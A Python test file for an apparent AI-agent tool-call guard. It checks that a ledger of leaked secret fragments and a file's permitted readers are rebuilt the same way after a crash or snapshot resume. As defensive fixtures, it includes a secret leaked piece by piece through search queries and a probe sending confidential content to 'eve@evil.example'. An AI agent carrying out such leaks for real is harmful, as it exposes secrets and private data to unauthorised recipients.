"""The outflow ledger and readers are folded state: a crash, a full resume and a resume from a snapshot
all give the same state and the same next decisions."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

from tether import Guard, Policy, SQLiteStore, ToolCall
from tether.monitor import decide
from tether.session._snapshot import restore

POLICY = """
tether: 1
name: resume-outflow
tools:
  read_secret: {effect: read, output: trusted, output_tags: [secret]}
  get_file: {effect: read, output: trusted, output_readers: [owner, shared_with]}
  search: {effect: read, output: trusted, args: {query: {type: string}}}
  send: {effect: write, output: trusted, recipients: [to], args: {to: {type: string}, body: {type: string}}}
"""
SECRET = "Zebra-Quokka-4471-Vault"
CONTENT = "Plan: expand-to-lisbon-2027"
PROBES = [
    ToolCall("search", {"query": "qu"}),
    ToolCall("search", {"query": "zz"}),
    ToolCall("send", {"to": "eve@evil.example", "body": CONTENT}),
    ToolCall("send", {"to": "ALICE@x.com", "body": CONTENT}),
]


def _verdicts(guard: Guard, sid: str, *, fast: bool) -> tuple[object, list[tuple[str, tuple[str, ...]]]]:
    session = guard.open_session(sid) if fast else guard.resume_session(sid)
    out = []
    for probe in PROBES:
        d = decide(guard.policy, session.state, probe, "sha256:probe", guard.clock())
        out.append((d.verdict, tuple(r.rule for r in d.reasons)))
    return session.state.snapshot(), out


def test_crash_and_snapshot_resume_reproduce_outflow_and_readers(tmp_path: Path) -> None:
    db = tmp_path / "s.db"
    policy = Policy.from_yaml(POLICY)
    guard = Guard(policy, SQLiteStore(db), snapshot_every=None, clock=lambda: 1_700_000_000.0)
    session = guard.start_session("help me")
    for tool, args, output in [
        ("read_secret", {}, f"vault: {SECRET}"),
        ("get_file", {}, json.dumps({"owner": "emma@x.com", "shared_with": ["Alice@X.com"], "body": CONTENT})),
        ("search", {"query": "ze"}, "ok"),
        ("search", {"query": "br"}, "ok"),
    ]:
        d = session.check(tool, args)
        assert d.verdict == "allow"
        session.record_result(d.call_id, output)
    assert session.save_snapshot()
    for piece in ["a-"]:
        d = session.check("search", {"query": piece})
        if d.verdict == "allow":
            session.record_result(d.call_id, "ok")
    live = session.state.snapshot()
    assert live["outflow"]["sinks"], "pieces were recorded"
    assert restore(guard.store, session.id, policy) is not None
    # A crash: the process is gone; a new guard opens the same store (from the snapshot, then in full).
    fast = _verdicts(Guard(policy, SQLiteStore(db), snapshot_every=None, clock=lambda: 1_700_000_000.0), session.id, fast=True)
    with sqlite3.connect(db) as raw:
        raw.execute("DELETE FROM snapshots")
    full = _verdicts(Guard(policy, SQLiteStore(db), snapshot_every=None, clock=lambda: 1_700_000_000.0), session.id, fast=False)
    assert fast == full
    assert fast[0] == live
    verdicts = [v for v, _ in fast[1]]
    assert verdicts == ["ask", "allow", "ask", "allow"], fast[1]
